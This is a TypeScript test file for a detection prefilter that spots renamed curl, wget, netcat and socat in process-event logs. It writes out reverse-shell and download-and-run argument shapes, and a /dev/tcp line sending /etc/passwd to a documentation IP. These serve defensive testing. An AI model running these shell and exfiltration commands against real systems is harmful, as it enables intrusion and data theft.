import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { mentionsNetworkUtility } from "../../src/detection/prefilter.js";
import type { SourceFormat } from "../../src/model.js";
import { type Exec, messagesOf, verdictOf } from "./formats.js";

// The prefilter looks for a renamed utility's shaped options and socat addresses only where an
// argument can start (after whitespace, a quote, a backslash, a JSON escape or at the text's start), and
// for a socket device path anywhere. These tests hold it to the rule through the real parsers.

const RENAMED = "/tmp/.cache/kworkerd";
const URL = "http://203.0.113.5/x.sh";

/** Argument lists the rule's utilityByShape recognises (a renamed curl, wget, netcat or socat). */
const SHAPES: string[][] = [
  ["-fsSL", URL],
  ["-sSL", URL],
  ["-#sSL", URL],
  ["-kfsSL", URL],
  ["-qO-", URL],
  ["-O-", URL],
  ["-qO", "/tmp/x", URL],
  ["-e", "/bin/sh", "203.0.113.5", "4444"],
  ["-c", "bash", "203.0.113.5", "4444"],
  ["-e", "/usr/bin/bash", "203.0.113.5", "4444"],
  ["-lvnp", "4444"],
  ["-nlvp", "4444"],
  ["exec:/bin/sh", "tcp:203.0.113.5:4444"],
  ["EXEC:/bin/bash", "TCP4:203.0.113.5:4444"],
  ["tcp-connect:203.0.113.5:4444", "exec:/bin/sh"],
  ["SYSTEM:id", "-"],
];

/** Go's encoding/json (Tetragon, Kubernetes): <, > and & as \u escapes. */
const goJson = (message: string) => message.replace(/[<>&]/g, (c) => `\\u00${c.charCodeAt(0).toString(16)}`);
const WRAPS: [string, (message: string) => string][] = [
  ["as written", (m) => m],
  ["with / escaped", (m) => m.replaceAll("/", "\\/")],
  ["as Go writes it", goJson],
  ["in a Fluent Bit record", (m) => JSON.stringify({ log: `${m}\n`, stream: "stdout" })],
  ["after a CRI prefix", (m) => `2026-03-15T22:11:07.402113Z stdout F ${m}`],
];

function processTree(args: string[]): Exec {
  return { path: RENAMED, args, parent: { path: "/bin/sh", args: ["-c", "/app/start"] } };
}

/**
 * The process-tree formats' messages for a renamed process with `args`, rid of what their fixtures
 * still say about the fixture's own utility (Falco's output line, Datadog's argv0), so that only the
 * arguments can let them through.
 */
function messages(args: string[]): [SourceFormat, string][] {
  return messagesOf({ exec: processTree(args) }).map(([format, message]) => {
    const root = JSON.parse(message) as Record<string, Record<string, unknown>>;
    if (format === "falco") root.output = "Notice process started" as unknown as Record<string, unknown>;
    if (format === "datadog") root.process!.argv0 = "kworkerd";
    return [format, JSON.stringify(root)];
  });
}

/** A Datadog message whose `process.args` is one string, which the parser splits like a shell. */
function datadogLine(line: string): string {
  const [, message] = messages(["x"]).find(([format]) => format === "datadog")!;
  const root = JSON.parse(message) as { process: Record<string, unknown> };
  root.process.args = line;
  return JSON.stringify(root);
}

/**
 * A Falco alert whose process arguments are only in its output line (`args=%proc.args` or
 * `command=%proc.cmdline`), which the parser reads as `key=value` pairs when output_fields lacks them.
 */
function falcoOutputLine(key: "args" | "command", args: string[]): string {
  const [, message] = messages(["x"]).find(([format]) => format === "falco")!;
  const root = JSON.parse(message) as { output: string; output_fields: Record<string, unknown> };
  delete root.output_fields["proc.cmdline"];
  const value = key === "args" ? args.join(" ") : ["kworkerd", ...args].join(" ");
  root.output = `Notice process started (user=root process=kworkerd ${key}=${value} container_id=0be477336d3e)`;
  return JSON.stringify(root);
}

/** One shell word for `word`, written in one of the ways a shell reads as that word. */
const SPELLINGS: ((word: string) => string)[] = [
  (w) => w,
  (w) => `"${w}"`,
  (w) => `'${w}'`,
  (w) => `''${w}`,
  (w) => `""${w}`,
  (w) => `\\${w}`,
  (w) => `\\\n${w}`,
];

describe("prefilter soundness for utilities recognised by their arguments", () => {
  it("lets a renamed utility's shaped arguments through in every format and wrapping", () => {
    const word = fc.stringMatching(/^[a-z0-9./:=-]{1,10}$/);
    fc.assert(
      fc.property(
        fc.constantFrom(...SHAPES),
        fc.array(word, { maxLength: 3 }),
        fc.array(word, { maxLength: 3 }),
        fc.nat(WRAPS.length - 1),
        (shape, before, after, wrap) => {
          // Prepare
          const args = [...before, ...shape, ...after];
          // Act + Assess
          for (const [format, message] of messages(args)) {
            if (verdictOf(message, format).kind === "none") continue;
            const text = WRAPS[wrap]![1](message);
            expect(mentionsNetworkUtility(text), `${format}: ${text}`).toBe(true);
          }
        },
      ),
      { numRuns: 300 },
    );
  });

  it("lets a shaped argument through however a shell-split argument string spells and separates it", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...SHAPES),
        fc.constantFrom(" ", "\t", "\n", "  ", " \t"),
        fc.nat(SPELLINGS.length - 1),
        fc.nat(WRAPS.length - 1),
        (shape, separator, spelling, wrap) => {
          // Prepare: every word of the shape in the same spelling.
          const message = datadogLine(["-v", ...shape].map(SPELLINGS[spelling]!).join(separator));
          // Act
          const verdict = verdictOf(message, "datadog");
          // Assess
          if (verdict.kind !== "none") expect(mentionsNetworkUtility(WRAPS[wrap]![1](message))).toBe(true);
        },
      ),
      { numRuns: 300 },
    );
  });

  it("lets shaped arguments through when only a Falco output line shows them", () => {
    fc.assert(
      fc.property(
        fc.constantFrom(...SHAPES),
        fc.constantFrom("args" as const, "command" as const),
        fc.nat(WRAPS.length - 1),
        (shape, key, wrap) => {
          // Prepare
          const message = falcoOutputLine(key, shape);
          // Act
          const verdict = verdictOf(message, "falco");
          // Assess
          if (key === "args") expect(verdict.kind).toBe("finding");
          if (verdict.kind !== "none")
            expect(mentionsNetworkUtility(WRAPS[wrap]![1](message)), message).toBe(true);
        },
      ),
      { numRuns: 200 },
    );
  });

  it.each(messages(["--version"]))(
    "skips the same %s message when its arguments have no shape (the tests above are not vacuous)",
    (_format, message) => {
      expect(mentionsNetworkUtility(message)).toBe(false);
    },
  );

  it.each(
    SHAPES.flatMap((shape) => messages(shape).map(([format, message]) => [shape.join(" "), format, message])),
  )("the rule flags %s (%s)", (_shape, format, message) => {
    expect(verdictOf(message, format as SourceFormat).kind).toBe("finding");
  });

  it.each(
    (["tetragon", "falco", "datadog"] as SourceFormat[]).flatMap((format) =>
      WRAPS.map(([how, wrap]) => [format, how, wrap] as const),
    ),
  )("lets a /dev/tcp redirection through (%s, %s)", (format, _how, wrap) => {
    // Prepare
    const exec = { ...processTree(["-c", "cat /etc/passwd > /dev/tcp/203.0.113.5/80"]), path: "/bin/bash" };
    const [, message] = messagesOf({ exec }).find(([f]) => f === format)!;
    // Act + Assess
    expect(verdictOf(message, format).kind).toBe("finding");
    expect(mentionsNetworkUtility(wrap(message))).toBe(true);
  });

  it.each([
    ["an option inside a word (a release name)", '{"image":"web:release-lvnp","tag":"build-fsSL"}'],
    ["a socat keyword inside a word", '{"note":"preexec:1","id":"nosystem:2"}'],
  ])("skips %s", (_label, text) => {
    expect(mentionsNetworkUtility(text)).toBe(false);
  });

  it.each([
    ["an option at the start of the text", "-fsSL http://203.0.113.5/x"],
    ["a socat address at the start of the text", "exec:/bin/sh tcp:203.0.113.5:4444"],
    ["an option after an escaped tab", '{"args":"x\\t-lvnp 4444"}'],
    ["an option after a \\u escape", '{"args":"x\\u0000-qO- http://203.0.113.5/x"}'],
    ["a socat address after an escaped newline", '{"args":"-v\\nTCP4:203.0.113.5:4444"}'],
    ["a shell-escaped option", '{"args":"x \\\\-fsSL http://203.0.113.5/x"}'],
  ])("lets %s through", (_label, text) => {
    expect(mentionsNetworkUtility(text)).toBe(true);
  });
});
